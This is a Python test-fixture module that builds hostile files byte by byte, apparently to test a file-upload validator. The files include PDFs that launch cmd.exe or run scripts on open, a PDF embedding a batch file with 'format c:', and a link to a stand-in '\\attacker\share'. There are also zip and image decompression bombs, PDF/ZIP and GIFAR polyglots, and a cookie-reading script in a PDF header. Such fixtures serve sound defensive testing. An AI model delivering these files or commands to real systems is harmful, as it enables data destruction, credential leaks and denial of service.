"""Small real files made in the tests: PDFs (plain, with scripts, encrypted), images, workbooks, archives."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject


def pdf(pages: int = 1, *, marker: str = "") -> bytes:
    """A real PDF of blank pages; `marker` makes otherwise equal files differ."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    writer.add_metadata({"/Title": f"Kvīts {marker}"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str) -> DictionaryObject:
    if kind == "launch":
        return DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('sveiki');")}
    )


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript in the /Names tree, as a form-filling PDF would carry it."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    ref = writer._add_object(_action("js"))
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), ref])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_open_action(kind: str = "js") -> bytes:
    """An /OpenAction that runs a script (`js`) or starts a program (`launch`) when the file opens."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/OpenAction")] = _action(kind)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="parole", owner_password="ipasnieks", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png(width: int = 4, height: int = 4, *, noise: bool = False) -> bytes:
    """A real RGB PNG; with `noise` the pixels are random, so it barely compresses (big files)."""
    row = 3 * width
    raw = b"".join(b"\x00" + (os.urandom(row) if noise else bytes([200, 30, 30]) * width) for _ in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", zlib.compress(raw, 1)) + _chunk(b"IEND", b"")


def jpeg() -> bytes:
    """A real baseline JPEG: one 8x8 grey block, with one-code Huffman tables (DC 0, AC end-of-block)."""
    soi, eoi = b"\xff\xd8", b"\xff\xd9"
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes([1] * 64)
    sof0 = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 8, 8, 1) + b"\x01\x11\x00"
    counts = bytes([1] + [0] * 15)
    dht_dc = b"\xff\xc4" + struct.pack(">H", 20) + b"\x00" + counts + b"\x00"
    dht_ac = b"\xff\xc4" + struct.pack(">H", 20) + b"\x10" + counts + b"\x00"
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00"
    return soi + app0 + dqt + sof0 + dht_dc + dht_ac + sos + b"\x3f" + eoi


def xlsx(rows: int = 3) -> bytes:
    """A real workbook, as an accountant's timesheet would be."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Datums", "Stundas", "Summa"])
    for i in range(rows):
        sheet.append([f"2026-10-{i + 1:02d}", 2, 24.5])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _zeros_entry(archive: zipfile.ZipFile, name: str, megabytes: int) -> None:
    with archive.open(name, "w", force_zip64=True) as entry:
        block = bytes(1024 * 1024)
        for _ in range(megabytes):
            entry.write(block)


def zip_bomb(megabytes: int = 200) -> bytes:
    """A few hundred kilobytes that unpack to `megabytes` of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        _zeros_entry(archive, "invoice.pdf", megabytes)
    return out.getvalue()


def xlsx_bomb(megabytes: int = 30) -> bytes:
    """A real workbook with a huge all-zero part slipped in."""
    src = zipfile.ZipFile(io.BytesIO(xlsx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in src.infolist():
            archive.writestr(info, src.read(info))
        _zeros_entry(archive, "xl/media/image1.bin", megabytes)
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("kvits.pdf", pdf())
    return out.getvalue()


def gzip_file() -> bytes:
    import gzip

    return gzip.compress(pdf())


# ---- hostile files: built here, byte by byte, so no binary sample is committed ------------------------


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_embedded_file() -> bytes:
    """A PDF carrying another file (here a script) as an attachment."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("palaid.bat", b"@echo off\r\nformat c:\r\n")
    return _written(writer)


def pdf_with_xfa() -> bytes:
    """A form whose XFA part (XML forms run their own scripts) sits in the AcroForm."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    xfa = ArrayObject([TextStringObject("template"), TextStringObject("<xdp:xdp><script>x()</script></xdp:xdp>")])
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): xfa}
    )
    return _written(writer)


def pdf_with_action(action: str, *, on_open: bool = True) -> bytes:
    """An action of type `action` run when the file opens, or behind a link on the page (`on_open=False`)."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    body: dict[NameObject, object] = {NameObject("/S"): NameObject(f"/{action}")}
    if action == "URI":
        body[NameObject("/URI")] = TextStringObject("https://example.test/x")
    elif action == "GoTo":
        body[NameObject("/D")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
    elif action == "SubmitForm":
        body[NameObject("/F")] = TextStringObject("https://example.test/collect")
    elif action == "GoToR":
        body[NameObject("/F")] = TextStringObject("\\\\attacker\\share\\x.pdf")
        body[NameObject("/D")] = ArrayObject([NameObject("/0"), NameObject("/Fit")])
    act = DictionaryObject(body)  # type: ignore[arg-type]
    if on_open:
        writer._root_object[NameObject("/OpenAction")] = act
    else:
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 90, 30)]),
                NameObject("/A"): act,
            }
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _written(writer)


def pdf_with_image(width: int, height: int) -> bytes:
    """A page showing an image XObject that claims `width` × `height` pixels (its data a few bytes)."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    image = StreamObject()
    image.set_data(zlib.compress(bytes(64)))
    image.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(width),
            NameObject("/Height"): NumberObject(height),
            NameObject("/ColorSpace"): NameObject("/DeviceGray"),
            NameObject("/BitsPerComponent"): NumberObject(8),
            NameObject("/Filter"): NameObject("/FlateDecode"),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): writer._add_object(image)})}
    )
    return _written(writer)


def pdf_updated_incrementally() -> bytes:
    """A PDF saved again by appending (a second body, xref and %%EOF): how signing and editing tools save."""
    writer = PdfWriter(io.BytesIO(pdf(marker="pirms")), incremental=True)
    writer.add_metadata({"/Title": "Kvīts (labota)"})
    return _written(writer)


def pdf_without_eof() -> bytes:
    data = pdf()
    return data[: data.rindex(b"%%EOF")]


def pdf_with_broken_startxref() -> bytes:
    data = pdf()
    head, _, tail = data.rpartition(b"startxref\n")
    return head + b"startxref\n" + b"17" + tail[tail.index(b"\n") :]


def pdf_with_broken_xref_entries() -> bytes:
    """The cross-reference table sends every object to the wrong place (readers would have to guess)."""
    data = pdf()
    start = data.rindex(b"\nxref\n") + 1
    table = data[start:]
    lines = table.split(b"\n")
    for i, line in enumerate(lines):
        if line.endswith(b" 00000 n "):
            lines[i] = b"%010d 00000 n " % (int(line[:10]) + 3)
    return data[:start] + b"\n".join(lines)


def _zip(entries: dict[str, bytes], *, stored: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def pdf_then_zip() -> bytes:
    """A valid PDF with a ZIP (a Java archive, say) appended: each reader sees its own file."""
    return pdf() + _zip({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": b"\xca\xfe\xba\xbe"})


def pdf_hiding_a_zip() -> bytes:
    """A valid PDF that is also a valid ZIP: the archive's files sit in a PDF stream, its directory between
    the trailer and `startxref` (no PDF reader looks there), and the PDF's own ending is the directory's
    comment; nothing follows %%EOF."""
    inner = _zip({"evil.js": b"alert(1)"}, stored=True)
    cd, eocd = inner.index(b"PK\x01\x02"), inner.rindex(b"PK\x05\x06")
    writer = PdfWriter(io.BytesIO(pdf()))
    holder = StreamObject()
    holder.set_data(inner[:cd])
    writer._add_object(holder)
    body = _written(writer)
    directory = bytearray(inner[cd:eocd])
    directory[42:46] = struct.pack("<I", body.index(inner[:cd]))  # the entry's local header, where it now is
    cut = body.rindex(b"startxref")
    tail = b"\n" + body[cut:]
    end_record = inner[eocd : eocd + 16] + struct.pack("<IH", cut, len(tail))
    return body[:cut] + bytes(directory) + end_record + tail


def pdf_with_markup_in_header() -> bytes:
    """A PDF whose first line after the header is a comment holding a web page: a browser may render it."""
    data = pdf()
    return data.replace(b"\n", b"\n%<html><script>alert(document.cookie)</script>\n", 1)


def png_then(tail: bytes) -> bytes:
    return png() + tail


def png_claiming(width: int, height: int) -> bytes:
    """A few dozen bytes whose header claims `width` × `height` pixels: a decompression bomb for a decoder."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", ihdr)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 1024, 9))
        + _chunk(b"IEND", b"")
    )


def png_with_text(text: bytes) -> bytes:
    data = png()
    return data[:33] + _chunk(b"tEXt", b"Comment\x00" + text) + data[33:]


def jpeg_claiming(width: int, height: int) -> bytes:
    data = jpeg()
    sof = data.index(b"\xff\xc0")
    return data[: sof + 5] + struct.pack(">HH", height, width) + data[sof + 9 :]


def jpeg_with_comment(text: bytes) -> bytes:
    data = jpeg()
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + data[2:]


def gifar() -> bytes:
    """A GIF with a Java archive appended (the classic GIFAR)."""
    gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
    gif += b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    return gif + _zip({"META-INF/MANIFEST.MF": b"Main-Class: X\n"})


def exe() -> bytes:
    """The start of a Windows program (MZ header, PE signature): enough for any sniffer."""
    header = bytearray(b"MZ" + bytes(62))
    header[0x3C:0x40] = struct.pack("<I", 64)
    return bytes(header) + b"PE\x00\x00" + bytes(200)


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(57)


def _xlsx_with(extra: dict[str, bytes], *, first: bool = False) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(xlsx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            for name, data in extra.items():
                archive.writestr(zipfile.ZipInfo(name), data)  # stored, as the first bytes of the file
        for info in src.infolist():
            archive.writestr(info, src.read(info))
        if not first:
            for name, data in extra.items():
                archive.writestr(name, data)
    return out.getvalue()


def xlsx_with_nested_zip() -> bytes:
    return _xlsx_with({"xl/media/image1.png": zip_bomb(20)})


def xlsx_with_embedded_object() -> bytes:
    return _xlsx_with({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)})


def xlsx_with_many_entries(count: int = 5001) -> bytes:
    return _xlsx_with({f"xl/media/p{i}.bin": b"" for i in range(count)})


def xlsx_starting_with_pdf() -> bytes:
    """A workbook whose first (stored) part is a PDF: most PDF readers look for %PDF- in the first KiB."""
    return _xlsx_with({"docProps/thumbnail.pdf": pdf()}, first=True)


def _declare_size(data: bytes, name: bytes, size: int) -> bytes:
    """Rewrite the unpacked size that the local header and the directory give for the entry `name`."""
    out = bytearray(data)
    for sig, size_at, name_len_at, header in ((b"PK\x01\x02", 24, 28, 46), (b"PK\x03\x04", 22, 26, 30)):
        at = 0
        while (at := out.find(sig, at)) >= 0:
            (name_len,) = struct.unpack("<H", out[at + name_len_at : at + name_len_at + 2])
            if out[at + header : at + header + name_len] == name:
                out[at + size_at : at + size_at + 4] = struct.pack("<I", size)
            at += 4
    return bytes(out)


def xlsx_declaring(size: int) -> bytes:
    """A workbook whose directory says one part unpacks to `size` bytes (a bomb that announces itself)."""
    return _declare_size(_xlsx_with({"xl/media/big.bin": b"x" * 1000}), b"xl/media/big.bin", size)


def xlsx_understating(megabytes: int = 50) -> bytes:
    """A workbook part that unpacks to `megabytes` of zeros while its directory says 1 000 bytes (a lying bomb)."""
    src = zipfile.ZipFile(io.BytesIO(xlsx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in src.infolist():
            archive.writestr(info, src.read(info))
        with archive.open("xl/media/big.bin", "w") as entry:
            block = bytes(1024 * 1024)
            for _ in range(megabytes):
                entry.write(block)
    return _declare_size(out.getvalue(), b"xl/media/big.bin", 1000)


def office_document(kind: str) -> bytes:
    """A word-processing document (docx or odt): a zip like a workbook, but not one."""
    if kind == "odt":
        return _zip(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<office:document-content/>",
                "META-INF/manifest.xml": b"<manifest:manifest/>",
            },
            stored=True,
        )
    return _zip(
        {
            "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
            "word/document.xml": b"<w:document/>",
        }
    )
